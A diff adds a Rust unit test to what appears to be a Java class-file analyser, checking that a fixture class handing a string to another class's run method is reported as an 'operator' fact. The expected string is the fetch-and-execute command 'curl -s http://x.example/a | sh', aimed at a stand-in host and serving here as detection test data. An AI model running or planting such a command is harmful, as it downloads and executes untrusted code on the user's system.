@@ -129,3 +129,16 @@ fn changed_bytes_stop_politely() {
     reading::change(&CLASS, "a.class", CALLS);
     reading::change(&CLASS, "a.class", include_bytes!("testdata/runs.class"));
 }
+
+#[test]
+fn what_another_class_is_handed_to_run_is_told_where_it_is_handed() {
+    let class = include_bytes!("testdata/hands.class");
+    let reading = reading::read(&CLASS, "Hands.class", class).unwrap();
+    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
+    let facts = facts(&reading);
+    let fact = facts.lines().find(|fact| fact.starts_with("operator")).unwrap_or_default();
+    assert!(fact.contains("curl -s http://x.example/a | sh") && fact.contains("[<clinit>+2]"), "{facts}");
+    // Handed to Java's own `System.setProperty`, it is a text among others.
+    assert_eq!(facts.matches("operator").count(), 1, "{facts}");
+    assert!(facts.contains(r#"call module="java:p" name="Beside.run" how="call" when="import""#), "{facts}");
+}
